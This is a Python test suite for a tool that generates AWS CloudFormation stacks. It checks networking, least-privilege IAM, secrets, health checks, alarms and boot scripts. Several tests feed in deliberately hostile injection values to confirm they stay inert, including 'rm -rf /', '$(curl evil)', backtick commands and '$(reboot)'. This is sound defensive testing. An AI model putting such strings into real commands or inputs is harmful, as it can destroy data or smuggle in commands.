"""The generated stack: structure, least privilege, lint-clean, and inert hostile values."""

import json
import subprocess
from pathlib import Path

import pytest
import yaml

from hivemind.models.plan import accepts
from hivemind.policy import blocking, lint_template
from hivemind.templating import render_template, to_yaml
from hivemind.templating.shell import exec_last
from tests.fixtures.plans import BUNDLE, CERT, NODE, plan
from tests.fixtures.userdata import SUB_VALUES, instance_script, raw_user_data, release_resource

_plan = plan


def _resources(template, kind):
    return {k: r for k, r in template["Resources"].items() if r["Type"] == kind}


@pytest.mark.parametrize("plan", [_plan(), _plan(**NODE)], ids=["flask", "express"])
def test_stack_is_complete_and_lint_clean(plan):
    template = render_template(plan, deployment_id="d-1", stack_name="hivemind-app")
    kinds = {r["Type"] for r in template["Resources"].values()}
    assert {
        "AWS::EC2::VPC",
        "AWS::EC2::Subnet",
        "AWS::EC2::InternetGateway",
        "AWS::EC2::Route",
        "AWS::ElasticLoadBalancingV2::LoadBalancer",
        "AWS::ElasticLoadBalancingV2::Listener",
        "AWS::ElasticLoadBalancingV2::TargetGroup",
        "AWS::EC2::SecurityGroup",
        "AWS::EC2::Instance",
        "AWS::IAM::Role",
        "AWS::IAM::InstanceProfile",
        "AWS::Logs::LogGroup",
    } <= kinds
    subnets = _resources(template, "AWS::EC2::Subnet").values()
    assert sorted(s["Properties"]["AvailabilityZone"]["Fn::Select"][0] for s in subnets) == [0, 1]
    assert set(template["Outputs"]) >= {"URL", "TargetGroupArn", "InstanceId", "LoadBalancerDNSName"}
    findings = lint_template(to_yaml(template))
    assert blocking(findings) == [], findings


def test_health_check_instance_hardening_and_network_rules():
    plan = _plan()
    template = render_template(plan, deployment_id="d-1", stack_name="hivemind-app")
    tg = template["Resources"]["TargetGroup"]["Properties"]
    assert (tg["Port"], tg["HealthCheckPath"]) == (5000, "/health")
    assert tg["HealthyThresholdCount"] and tg["UnhealthyThresholdCount"] and tg["HealthCheckIntervalSeconds"]
    assert "Targets" not in tg
    instance = release_resource(template, "WebInstance")
    assert instance["Properties"]["MetadataOptions"]["HttpTokens"] == "required"
    ebs = instance["Properties"]["BlockDeviceMappings"][0]["Ebs"]
    assert (ebs["Encrypted"], ebs["VolumeType"]) == (True, "gp3")
    assert instance["CreationPolicy"]["ResourceSignal"]["Count"] == 1
    assert "KeyName" not in instance["Properties"]
    assert template["Parameters"]["ImageIdD1"]["Type"] == "AWS::SSM::Parameter::Value<AWS::EC2::Image::Id>"
    ingress = release_resource(template, "InstanceSecurityGroup")["Properties"]["SecurityGroupIngress"]
    assert ingress == [
        {
            "IpProtocol": "tcp",
            "FromPort": 5000,
            "ToPort": 5000,
            "Description": ingress[0]["Description"],
            "SourceSecurityGroupId": {"Fn::GetAtt": ["LoadBalancerSecurityGroup", "GroupId"]},
        }
    ]
    for sg in _resources(template, "AWS::EC2::SecurityGroup").values():
        assert all(rule.get("FromPort") != 22 for rule in sg["Properties"]["SecurityGroupIngress"])
    alb = template["Resources"]["LoadBalancer"]["Properties"]["LoadBalancerAttributes"]
    assert {"Key": "routing.http.drop_invalid_header_fields.enabled", "Value": "true"} in alb


def test_instance_role_reads_only_its_own_bundle():
    template = render_template(_plan(), deployment_id="d-1", stack_name="hivemind-app")
    statements = release_resource(template, "InstanceRole")["Properties"]["Policies"][0]["PolicyDocument"]["Statement"]
    s3 = [s for s in statements if s["Action"] == "s3:GetObject"]
    assert s3[0]["Resource"] == {"Fn::Sub": "arn:${AWS::Partition}:s3:::${SourceBucketD1}/${SourceKeyD1}"}
    params = template["Parameters"]
    assert (params["SourceBucketD1"]["Default"], params["SourceKeyD1"]["Default"]) == (
        "hivemind-artifacts",
        "deployments/d-1/source.zip",
    )
    assert not any(s["Resource"] == "*" for s in statements)


def test_every_taggable_resource_carries_the_deployment_id():
    template = render_template(_plan(), deployment_id="d-42", stack_name="hivemind-app")
    untaggable = {
        "AWS::EC2::VPCGatewayAttachment",
        "AWS::EC2::Route",
        "AWS::EC2::SubnetRouteTableAssociation",
        "AWS::IAM::InstanceProfile",
        "AWS::ElasticLoadBalancingV2::Listener",
    }
    for logical_id, resource in template["Resources"].items():
        if resource["Type"] in untaggable:
            continue
        tags = {t["Key"]: t["Value"] for t in resource["Properties"]["Tags"]}
        assert tags["hivemind:deployment-id"] == "d-42", logical_id


HOSTILE = "'\"; rm -rf / #${AWS::AccountId}\n!Ref X `id` $(curl evil)"


def test_hostile_values_stay_data():
    benign = render_template(_plan(environment={"NOTE": "hello"}), deployment_id="d-1", stack_name="s")
    hostile_plan = _plan(
        environment={"NOTE": HOSTILE},
        start_command=f"gunicorn app:app {HOSTILE}",
        install_command=f"pip install x; {HOSTILE}",
        health_path="/h'$(reboot)",
    )
    hostile = render_template(hostile_plan, deployment_id="d-1", stack_name="s")
    # the structure is unchanged: same resources, same properties, same parameters and outputs
    assert hostile["Resources"].keys() == benign["Resources"].keys()
    assert hostile["Parameters"] == benign["Parameters"] and hostile["Outputs"] == benign["Outputs"]
    script = release_resource(hostile, "WebInstance")["Properties"]["UserData"]["Fn::Base64"]["Fn::Sub"]
    benign_script = release_resource(benign, "WebInstance")["Properties"]["UserData"]["Fn::Base64"]["Fn::Sub"]
    # the only Fn::Sub references are HiveMind's own
    import re

    refs = set(re.findall(r"\$\{([^!}][^}]*)\}", script))
    assert refs == set(re.findall(r"\$\{([^!}][^}]*)\}", benign_script))
    assert refs <= set(SUB_VALUES)
    # the YAML round-trips to the same template (no tag or quote in a value changes it)
    assert yaml.safe_load(to_yaml(hostile)) == json.loads(json.dumps(hostile))


def _write_app_files(plan, folder: Path) -> None:
    """Run the user data's writers of app.env.sh and start.sh with their paths inside `folder`."""

    script = instance_script(
        release_resource(render_template(plan, deployment_id="d-1", stack_name="s"), "WebInstance")["Properties"][
            "UserData"
        ]["Fn::Base64"]["Fn::Sub"]
    )
    assert subprocess.run(["bash", "-n"], input=script, text=True, capture_output=True).returncode == 0
    lines = script.splitlines()
    writers = []
    for target in ("> /etc/hivemind/app.env.sh", "> /opt/hivemind/start.sh"):  # a quoted value may span lines
        end = next(i for i, line in enumerate(lines) if line.endswith(target))
        start = max(i for i in range(end + 1) if lines[i].startswith("printf '%s\\n'"))
        writers.append("\n".join(lines[start : end + 1]))
    sandboxed = "\n".join(
        w.replace("/etc/hivemind/", f"{folder}/").replace("/opt/hivemind/", f"{folder}/") for w in writers
    )
    subprocess.run(["bash", "-c", sandboxed], check=True)
    for name in ("start.sh",):
        path = folder / name
        path.write_text(path.read_text().replace("/etc/hivemind/", f"{folder}/").replace("/opt/app", str(folder)))


def test_hostile_values_arrive_byte_for_byte_when_bash_runs_the_script(tmp_path):

    _write_app_files(_plan(environment={"NOTE": HOSTILE}, start_command=f"run {HOSTILE}"), tmp_path)
    note = subprocess.run(
        ["bash", "-c", f'. {tmp_path}/app.env.sh; printf %s "$NOTE"'], capture_output=True, text=True, check=True
    ).stdout
    assert note == HOSTILE
    assert (tmp_path / "start.sh").read_text().endswith(f"\nexec run {HOSTILE}\n")


def test_a_procfile_s_unset_variables_are_empty_when_the_app_starts(tmp_path):

    # Heroku-style commands name variables that are often unset ($JAVA_OPTS, $WEB_CONCURRENCY)
    _write_app_files(_plan(start_command="printf '%s|' started $JAVA_OPTS $PORT"), tmp_path)
    started = subprocess.run(["bash", str(tmp_path / "start.sh")], capture_output=True, text=True)
    assert (started.returncode, started.stdout) == (0, "started|5000|"), started.stderr


def test_a_start_command_with_release_steps_runs_them_then_becomes_the_server(tmp_path):
    # miguelgrinberg/microblog's Procfile: `web: flask db upgrade; flask translate compile; gunicorn microblog:app`
    # (with `exec` before the whole line, the migration replaced the script and the server never started)
    _write_app_files(_plan(start_command="printf 'upgrade|'; printf 'compile|'; sh -c 'echo server'"), tmp_path)
    start = (tmp_path / "start.sh").read_text()
    assert start.endswith("printf 'upgrade|'; printf 'compile|'; exec sh -c 'echo server'\n")
    ran = subprocess.run(["bash", str(tmp_path / "start.sh")], capture_output=True, text=True)
    assert ran.returncode == 0 and ran.stdout == "upgrade|compile|server\n", ran.stderr


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("cd web && gunicorn app:app", "cd web && exec gunicorn app:app"),
        ("NODE_ENV=production node server.js", "NODE_ENV=production exec node server.js"),
        ('python -c "import a; a.run()"', 'exec python -c "import a; a.run()"'),
        ("node server.js 2>&1", "exec node server.js 2>&1"),
        ("node server.js | tee app.log", "node server.js | tee app.log"),
        ("if [ -f x ]; then node a.js; fi", "if [ -f x ]; then node a.js; fi"),
        ("bin/rails db:migrate && bin/rails server", "bin/rails db:migrate && exec bin/rails server"),
    ],
)
def test_exec_goes_before_the_last_simple_command_only(command, expected):
    assert exec_last(command) == expected


def test_user_data_runs_the_plan_as_a_service_and_signals_on_health():
    script = release_resource(render_template(_plan(), deployment_id="d-1", stack_name="s"), "WebInstance")[
        "Properties"
    ]["UserData"]["Fn::Base64"]["Fn::Sub"]
    assert "dnf install -y python3.12" in script
    assert "'exec gunicorn app:app'" in script
    assert "'export PORT=5000'" in script
    assert "systemctl enable --now hivemind-app" in script
    assert "http://127.0.0.1:5000/health" in script
    assert script.index("systemctl enable") < script.index("signal 0")


@pytest.mark.parametrize("codes", ["200-399", "200-499", "200,302", "250-310,404"])
def test_the_statuses_that_count_as_up_are_the_plans_in_the_matcher_and_the_bootstraps_check(codes):
    template = render_template(_plan(health_codes=codes), deployment_id="d-1", stack_name="s")
    assert template["Resources"]["TargetGroup"]["Properties"]["Matcher"] == {"HttpCode": codes}
    script = release_resource(template, "WebInstance")["Properties"]["UserData"]["Fn::Base64"]["Fn::Sub"]
    check = next(line for line in script.splitlines() if line.strip().startswith("case $code in"))
    # bash itself says which statuses its `case` accepts: the same as the load balancer's matcher
    program = f"for code in 000 $(seq 100 599); do {check.replace('signal 0; exit 0', 'echo $code')} done"
    ran = subprocess.run(["bash", "-c", program], capture_output=True, text=True, check=True)
    assert [int(c) for c in ran.stdout.split()] == [c for c in range(100, 600) if accepts(codes, c)]


@pytest.mark.parametrize(("language", "timeout"), [("python", "PT15M"), ("java", "PT30M"), ("docker", "PT30M")])
def test_slow_building_runtimes_get_a_longer_boot_timeout(language, timeout):
    template = render_template(_plan(language=language), deployment_id="d-1", stack_name="s")
    assert release_resource(template, "WebInstance")["CreationPolicy"]["ResourceSignal"]["Timeout"] == timeout


def test_an_unknown_instance_type_is_a_blocking_lint_finding():
    template = render_template(_plan(instance_type="t9.gigantic"), deployment_id="d-1", stack_name="s")
    errors = blocking(lint_template(to_yaml(template)))
    assert [(f.resource, f.path) for f in errors] == [
        ("WebInstanceD1", "Resources/WebInstanceD1/Properties/InstanceType")
    ]


def test_a_certificate_adds_https_and_http_redirects():
    from hivemind.models import StackOptions

    template = render_template(_plan(), deployment_id="d-1", stack_name="s", options=StackOptions(certificate_arn=CERT))
    https = template["Resources"]["HttpsListener"]["Properties"]
    assert (https["Protocol"], https["Port"]) == ("HTTPS", 443)
    assert https["Certificates"] == [{"CertificateArn": {"Ref": "CertificateArn"}}]
    assert template["Parameters"]["CertificateArn"]["Default"] == CERT
    http_action = template["Resources"]["HttpListener"]["Properties"]["DefaultActions"][0]
    assert http_action["Type"] == "redirect" and http_action["RedirectConfig"]["Protocol"] == "HTTPS"
    ingress = template["Resources"]["LoadBalancerSecurityGroup"]["Properties"]["SecurityGroupIngress"]
    assert sorted(rule["FromPort"] for rule in ingress) == [80, 443]
    assert template["Outputs"]["URL"]["Value"]["Fn::Sub"].startswith("https://")
    assert blocking(lint_template(to_yaml(template))) == []


def test_an_existing_network_is_used_instead_of_a_new_vpc():
    from hivemind.models import StackOptions

    options = StackOptions(vpc_id="vpc-0123456789abcdef0", subnet_ids=["subnet-0aaa1111", "subnet-0bbb2222"])
    template = render_template(_plan(), deployment_id="d-1", stack_name="s", options=options)
    kinds = {r["Type"] for r in template["Resources"].values()}
    assert not kinds & {"AWS::EC2::VPC", "AWS::EC2::Subnet", "AWS::EC2::InternetGateway", "AWS::EC2::Route"}
    assert template["Parameters"]["SubnetIds"]["Default"] == "subnet-0aaa1111,subnet-0bbb2222"
    assert template["Resources"]["LoadBalancer"]["Properties"]["Subnets"] == {"Ref": "SubnetIds"}
    assert template["Resources"]["TargetGroup"]["Properties"]["VpcId"] == {"Ref": "VpcId"}
    assert "DependsOn" not in release_resource(template, "WebInstance")
    assert blocking(lint_template(to_yaml(template))) == []


def test_network_options_must_be_whole():
    from pydantic import ValidationError

    from hivemind.models import StackOptions

    with pytest.raises(ValidationError, match="together"):
        StackOptions(vpc_id="vpc-0123456789abcdef0")
    with pytest.raises(ValidationError, match="two subnets"):
        StackOptions(vpc_id="vpc-0123456789abcdef0", subnet_ids=["subnet-0aaa1111"])
    with pytest.raises(ValidationError):
        StackOptions(certificate_arn="arn:aws:iam::123456789012:server-certificate/x")


def test_secrets_are_references_read_at_start_with_access_to_exactly_them():
    plan = _plan(secrets={"DB_PASSWORD": "ssm:/prod/db/password", "API_KEY": "secretsmanager:prod/api-key"})
    template = render_template(plan, deployment_id="d-1", stack_name="s")
    statements = {
        s["Sid"]: s
        for s in release_resource(template, "InstanceRole")["Properties"]["Policies"][0]["PolicyDocument"]["Statement"]
    }
    assert statements["ReadOwnParameters"]["Resource"] == [
        {"Fn::Sub": "arn:${AWS::Partition}:ssm:${AWS::Region}:${AWS::AccountId}:parameter/prod/db/password"}
    ]
    assert statements["ReadOwnSecrets"]["Action"] == "secretsmanager:GetSecretValue"
    # exactly that secret: its ARN's six-character suffix, never `prod/api-key-*` (which grants prod/api-key-old)
    assert statements["ReadOwnSecrets"]["Resource"] == [
        {"Fn::Sub": "arn:${AWS::Partition}:secretsmanager:${AWS::Region}:${AWS::AccountId}:secret:prod/api-key-??????"}
    ]
    script = release_resource(template, "WebInstance")["Properties"]["UserData"]["Fn::Base64"]["Fn::Sub"]
    start = next(line for line in script.splitlines() if line.endswith("> /opt/hivemind/start.sh"))
    assert "aws ssm get-parameter --with-decryption --name /prod/db/password" in start
    assert start.index("DB_PASSWORD") < start.index("exec gunicorn")
    assert blocking(lint_template(to_yaml(template))) == []


def test_a_secret_must_be_a_reference_not_a_value():
    from pydantic import ValidationError

    from hivemind.models import DeploymentRequest

    source = {"type": "s3", "bucket": "bkt", "key": "k"}
    with pytest.raises(ValidationError, match="reference, never the value"):
        DeploymentRequest(app_name="app", source=source, secrets={"DB_PASSWORD": "hunter2"})
    with pytest.raises(ValidationError, match="both as environment and as secret"):
        DeploymentRequest(app_name="app", source=source, environment={"X": "1"}, secrets={"X": "ssm:/x"})
    with pytest.raises(ValidationError):
        DeploymentRequest(app_name="app", source=source, secrets={"X": "ssm:/x$(reboot)"})


@pytest.mark.parametrize(
    ("failure", "signals"),
    [
        ("false", ["-e 1"]),  # a failed command under set -e
        ("echo 'no PHP package could be installed'; exit 1", ["-e 1"]),  # an explicit exit
        ("echo $NOT_SET", ["-e 1"]),  # an unset variable under set -u
        ("signal 0; exit 0", ["-e 0"]),  # success: no failure log
    ],
)
def test_every_failed_boot_leaves_its_last_log_lines_for_the_medic_then_signals_failure(tmp_path, failure, signals):
    # Given the bootstrap's failure handling, with the instance's paths and tools moved into tmp_path
    script = instance_script(raw_user_data(_plan(), failure_log="s3://art/deployments/d/instance-1.log"))
    handling = script[script.index("signal() {") : script.index("dnf install -y aws-cfn-bootstrap")]
    (tmp_path / "bin").mkdir()
    for tool in ("aws", "cfn-signal"):
        (tmp_path / "bin" / tool).write_text(f'#!/bin/sh\necho "{tool} $*" >> {tmp_path}/calls\n')
        (tmp_path / "bin" / tool).chmod(0o755)
    (tmp_path / "boot.log").write_text("".join(f"boot {i}\n" for i in range(100)))
    (tmp_path / "app.log").write_text(
        "Traceback (most recent call last):\n" + "x" * 5000 + "\nModuleNotFoundError: No module named 'flask'\n"
    )
    handling = (
        handling.replace("/var/log/hivemind-bootstrap.log", f"{tmp_path}/boot.log")
        .replace("/var/log/hivemind/app.log", f"{tmp_path}/app.log")
        .replace("/tmp/hivemind-failure.log", f"{tmp_path}/failure.log")
        .replace("/opt/aws/bin/cfn-signal", f"{tmp_path}/bin/cfn-signal")
    )
    # When the bootstrap goes that way
    subprocess.run(
        ["bash", "-c", f"set -euo pipefail\nexport PATH={tmp_path}/bin:$PATH\n{handling}\n{failure}"],
        capture_output=True,
    )
    calls = (tmp_path / "calls").read_text().splitlines()
    # Then a failure leaves both logs' last lines (each cut short) at the failure log's key, once, and
    # CloudFormation hears of it; success uploads nothing
    assert [c.split(" --stack")[0].removeprefix("cfn-signal ") for c in calls if c.startswith("cfn-signal")] == signals
    uploads = [c for c in calls if c.startswith("aws ")]
    if signals == ["-e 0"]:
        assert uploads == []
        return
    # (the helper resolves FailureLogBucket/FailureLogKey to fb/fk)
    assert uploads == [f"aws s3 cp {tmp_path}/failure.log s3://fb/fk --region us-east-1"]
    left = (tmp_path / "failure.log").read_text()
    assert "boot 99" in left and "boot 39" not in left and "No module named 'flask'" in left
    assert max(len(line) for line in left.splitlines()) == 400


def test_the_instance_may_write_exactly_its_failure_log():
    template = render_template(_plan(), deployment_id="d", stack_name="s", failure_log="s3://art/deployments/d/i.log")
    statements = release_resource(template, "InstanceRole")["Properties"]["Policies"][0]["PolicyDocument"]["Statement"]
    writes = [s for s in statements if "s3:PutObject" in str(s["Action"])]
    assert writes == [
        {
            "Sid": "LeaveOwnFailureLog",
            "Effect": "Allow",
            "Action": "s3:PutObject",
            "Resource": {"Fn::Sub": "arn:${AWS::Partition}:s3:::${FailureLogBucketD}/${FailureLogKeyD}"},
        }
    ]
    assert template["Parameters"]["FailureLogKeyD"]["Default"] == "deployments/d/i.log"


def test_node_apps_run_in_production_mode_but_build_with_their_dev_dependencies(tmp_path):
    _write_app_files(plan(**{**NODE, "start_command": "printf %s $NODE_ENV", "source_bundle": BUNDLE}), tmp_path)
    started = subprocess.run(["bash", str(tmp_path / "start.sh")], capture_output=True, text=True)
    assert (started.returncode, started.stdout) == (0, "production"), started.stderr
    assert "NODE_ENV" not in (tmp_path / "app.env.sh").read_text()  # what build.sh sources
    own = plan(**{**NODE, "environment": {"NODE_ENV": "staging"}, "source_bundle": BUNDLE})
    _write_app_files(own.model_copy(update={"start_command": "printf %s $NODE_ENV"}), tmp_path)
    assert subprocess.run(["bash", str(tmp_path / "start.sh")], capture_output=True, text=True).stdout == "staging"


def test_user_data_over_ec2_s_limit_is_a_clear_error_before_cloudformation():
    from hivemind.errors import PlanError

    fits = plan(environment={f"VAR_{i}": "x" * 100 for i in range(30)})
    assert len(raw_user_data(fits).encode()) < 15 * 1024
    too_big = plan(environment={f"VAR_{i}": "x" * 400 for i in range(40)})
    with pytest.raises(PlanError, match=r"over EC2's 16 KiB limit .* as secrets"):
        raw_user_data(too_big)


def test_ruby_apps_find_their_bundled_gems_at_run_time_only(tmp_path):
    ruby = plan(language="ruby", framework="sinatra", runtime_version="3.4", start_command="printf %s $RUBYOPT")
    _write_app_files(ruby, tmp_path)
    started = subprocess.run(["bash", str(tmp_path / "start.sh")], capture_output=True, text=True)
    assert started.stdout == "-rbundler/setup", started.stderr
    assert "RUBYOPT" not in (tmp_path / "app.env.sh").read_text()  # bundle install runs without it


def test_the_instance_role_is_bounded_by_hiveminds_policy_when_given():
    boundary = "arn:aws:iam::123456789012:policy/hivemind-AppInstanceBoundary-ABC"
    template = render_template(_plan(), deployment_id="d-1", stack_name="s", permissions_boundary=boundary)
    role = release_resource(template, "InstanceRole")["Properties"]
    assert role["PermissionsBoundary"] == {"Ref": "PermissionsBoundary"}
    assert template["Parameters"]["PermissionsBoundary"]["Default"] == boundary
    assert blocking(lint_template(to_yaml(template))) == []
    unbounded = render_template(_plan(), deployment_id="d-1", stack_name="s")  # `hivemind template`'s preview
    assert "PermissionsBoundary" not in release_resource(unbounded, "InstanceRole")["Properties"]


def test_the_stack_alarms_on_5xx_unhealthy_targets_slow_answers_and_its_instances_status_checks():
    topic = "arn:aws:sns:us-east-1:123456789012:hivemind-alarms"
    template = render_template(_plan(), deployment_id="d-1", stack_name="s", alarm_topic=topic)
    alarms = {k: r for k, r in template["Resources"].items() if r["Type"] == "AWS::CloudWatch::Alarm"}
    assert set(alarms) == {
        "LoadBalancer5xxAlarm",
        "App5xxAlarm",
        "UnhealthyHostsAlarm",
        "ResponseTimeAlarm",
        "StatusCheckAlarmD1",
    }
    metrics = {k: (r["Properties"]["Namespace"], r["Properties"]["MetricName"]) for k, r in alarms.items()}
    assert metrics["UnhealthyHostsAlarm"] == ("AWS/ApplicationELB", "UnHealthyHostCount")
    assert metrics["StatusCheckAlarmD1"] == ("AWS/EC2", "StatusCheckFailed")
    status = alarms["StatusCheckAlarmD1"]
    assert status["Properties"]["Dimensions"] == [{"Name": "InstanceId", "Value": {"Ref": "WebInstanceD1"}}]
    assert status["Metadata"]["HiveMind"]["Release"] == "d-1", "it goes with its instance"
    assert all(a["Properties"]["AlarmActions"] == [{"Ref": "AlarmTopicArn"}] for a in alarms.values())
    assert template["Parameters"]["AlarmTopicArn"]["Default"] == topic
    assert blocking(lint_template(to_yaml(template))) == []
    # without a topic (the CLI's preview) the alarms are there and tell nobody
    quiet = render_template(_plan(), deployment_id="d-1", stack_name="s")
    assert not any("AlarmActions" in r["Properties"] for r in quiet["Resources"].values() if "Alarm" in r["Type"])
